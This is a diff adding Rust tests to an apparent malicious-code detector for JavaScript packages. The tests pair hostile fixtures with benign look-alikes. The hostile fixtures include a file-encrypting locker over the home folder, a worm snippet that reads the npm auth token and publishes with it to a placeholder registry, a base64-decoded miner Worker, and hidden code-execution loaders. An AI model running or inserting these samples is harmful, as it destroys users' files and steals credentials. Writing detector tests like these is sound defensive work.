@@ -1083,6 +1083,50 @@ walk(os.homedir());
 }
 
 #[test]
+fn the_home_folder_counts_when_code_asks_for_it_not_when_a_comment_names_it() {
+    // The walk's root comes from a parameter; the home folder and the cipher are asked
+    // for in code, through `process.env` and a cipher created.
+    let locker = r#"
+const fs = require('fs'), crypto = require('crypto');
+function lock(dir, key) {
+  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
+    const p = dir + '/' + e.name;
+    if (e.isDirectory()) { lock(p, key); continue; }
+    const c = crypto.createCipheriv('aes-256-cbc', key, Buffer.alloc(16));
+    fs.writeFileSync(p + '.locked', c.update(fs.readFileSync(p)));
+    fs.unlinkSync(p);
+  }
+}
+module.exports = (opts) => lock(opts.root || process.env.USERPROFILE, opts.key);
+"#;
+    assert!(
+        kinds(locker).contains(&K::Destruction),
+        "{:?}",
+        facts(locker)
+    );
+    // The same walk from a folder it is given; the home folder and a cipher only named in
+    // comments and in a message.
+    let pruner = r#"
+const fs = require('fs');
+// Never call os.homedir() here, and never walk $HOME or %USERPROFILE%: we only prune the
+// output folder we are given. (Artifacts are not encrypted; see createCipheriv docs.)
+function prune(dir, keep) {
+  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
+    const p = dir + '/' + e.name;
+    if (e.isDirectory()) { prune(p, keep); continue; }
+    if (!keep(p)) fs.unlinkSync(p);
+  }
+}
+module.exports = (out, keep) => { console.log('HOME is left alone'); prune(out, keep); };
+"#;
+    assert!(
+        !kinds(pruner).contains(&K::Destruction),
+        "{:?}",
+        facts(pruner)
+    );
+}
+
+#[test]
 fn walking_a_cache_or_a_project_and_deleting_is_not_destruction() {
     // A cache cleaner under a dot-folder of home, and a build that rewrites its sources.
     let cleaner = r#"
@@ -1115,5 +1159,123 @@ exports.exportTo = (name) => fs.writeFileSync(path.join(process.env.HOME, 'Docum
         !kinds(build).contains(&K::Destruction),
         "{:?}",
         facts(build)
+    );
+}
+
+#[test]
+fn a_token_printed_by_a_command_and_sent_is_exfiltration() {
+    // The registry token asked of npm itself, then used to publish a package document
+    // (the way a worm republishes without shelling out to `npm publish`).
+    let worm = r#"
+const { execSync } = require('child_process');
+const reg = 'https://registry.example.invalid';
+const tok = execSync('npm config get //registry.example.invalid/:_authToken').toString().trim();
+const doc = { _id: 'x', name: 'x', 'dist-tags': { latest: '1.0.1' }, _attachments: {} };
+fetch(reg + '/x', { method: 'PUT', headers: { authorization: 'Bearer ' + tok }, body: JSON.stringify(doc) });
+"#;
+    let f = facts(worm);
+    assert!(f.iter().any(|x| x.0 == K::SecretExfiltration), "{f:?}");
+    // The twin asks npm for the registry's address and fetches a package document.
+    let client = r#"
+const { execSync } = require('child_process');
+const reg = execSync('npm config get registry').toString().trim();
+fetch(reg + '/left-pad', { headers: { accept: 'application/json' } }).then((r) => r.json());
+"#;
+    let f = facts(client);
+    assert!(!f.iter().any(|x| x.0 == K::SecretExfiltration), "{f:?}");
+}
+
+#[test]
+fn a_worker_started_from_decoded_code_that_connects_is_decode_execute() {
+    // One statement in a bundle: workers started from a blob of base64-decoded code that
+    // opens a socket (a miner talking to its pool).
+    let b64 = "dmFyIHM9bmV3IFdlYlNvY2tldCgid3NzOi8vcG9vbC5leGFtcGxlLmludmFsaWQvIik7";
+    let bundle = format!(
+        "!function(){{try{{var u=URL.createObjectURL(new Blob([atob(\"{b64}\")]));for(var i=0;i<4;i++)new Worker(u)}}catch(e){{}}}}();\n"
+    );
+    let f = facts(&bundle);
+    assert!(f.iter().any(|x| x.0 == K::DecodeExecute), "{f:?}");
+    // Bundlers inline their own workers as base64 too: code that only computes, and
+    // workers started from their own files or from constant code.
+    let inlined = "dmFyIG49MDtvbm1lc3NhZ2U9ZnVuY3Rpb24oZSl7cG9zdE1lc3NhZ2UoZS5kYXRhKjIpfTs=";
+    let benign = format!(
+        r#"
+const w0 = new Worker(URL.createObjectURL(new Blob([atob("{inlined}")], {{ type: 'text/javascript' }})));
+const a = new Worker(new URL('./resize.worker.js', import.meta.url), {{ type: 'module' }});
+const src = 'self.onmessage = (e) => postMessage(e.data * 2);';
+const b = new Worker(URL.createObjectURL(new Blob([src], {{ type: 'text/javascript' }})));
+"#
+    );
+    let f = facts(&benign);
+    assert!(
+        !f.iter().any(|x| matches!(
+            x.0,
+            K::DecodeExecute | K::DownloadExecute | K::DynamicExecute
+        )),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn a_new_module_given_code_through_a_hidden_method_name_runs_it() {
+    // The method name (`_compile`) and the code both come from a table of the package,
+    // so neither folds; the fresh module gives it away.
+    let src = r#"
+var names = require('./lib/names.json'), blob = require('./lib/blob.json');
+!function () {
+  try {
+    var m = new module.constructor();
+    m.paths = module.paths;
+    m[names[blob.length % 7]](blob.join(''), '');
+  } catch (e) {}
+}();
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|x| matches!(x.0, K::DynamicExecute | K::DecodeExecute)),
+        "{f:?}"
+    );
+    // Plugin loaders call methods of their own objects by computed names, and a test
+    // helper compiles a constant module under its real name.
+    let benign = r#"
+const hooks = { start() {}, stop() {} };
+for (const k of Object.keys(hooks)) hooks[k](process.argv);
+const Module = require('module');
+const m = new Module('fixture');
+m._compile('module.exports = 42', 'fixture.js');
+"#;
+    let f = facts(benign);
+    assert!(
+        !f.iter()
+            .any(|x| matches!(x.0, K::DynamicExecute | K::DecodeExecute | K::Obfuscation)),
+        "{f:?}"
+    );
+}
+
+#[test]
+fn what_a_decoder_hands_its_callback_is_decoded() {
+    // A decompressor of another library, with a callback: what it hands over is run.
+    let src = r#"
+const xz = require('some-xz');
+const packed = Buffer.from('AAECAwQFBgcICQ==', 'base64');
+xz.decompress(Array.from(packed), function (text, err) {
+  if (!err) new Function('require', text)(require);
+});
+"#;
+    let f = facts(src);
+    assert!(f.iter().any(|x| x.0 == K::DecodeExecute), "{f:?}");
+    // Decompressing a file the user names, and parsing what comes out, is a codec.
+    let benign = r#"
+const xz = require('some-xz'), fs = require('fs');
+module.exports = (file, cb) => xz.decompress(fs.readFileSync(file), (out, err) => {
+  cb(err, err ? null : JSON.parse(out));
+});
+"#;
+    let f = facts(benign);
+    assert!(
+        !f.iter()
+            .any(|x| matches!(x.0, K::DecodeExecute | K::DynamicExecute)),
+        "{f:?}"
     );
 }
